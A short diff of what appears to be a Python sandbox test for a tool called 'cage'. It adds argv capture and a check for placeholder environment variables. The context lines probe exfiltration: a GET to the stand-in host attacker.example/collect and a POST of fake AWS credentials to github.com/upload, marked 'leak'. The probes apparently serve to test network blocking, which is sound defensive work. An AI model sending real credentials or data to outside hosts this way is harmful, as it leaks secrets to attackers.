@@ -84,6 +84,8 @@ def allowed() -> dict[str, Any]:
 def main(internet: str) -> None:
     results = {
         "env_key": KEY,
+        "argv": sys.argv[2:],  # `cage update` adds a word to the command
+        "placeholders": sorted(k for k, v in os.environ.items() if v == "{{" + k + "}}"),
         "allowed": allowed(),
         "blocked_host": http("GET", "https://attacker.example/collect"),
         "leak": http("POST", "https://github.com/upload", FAKE_AWS),
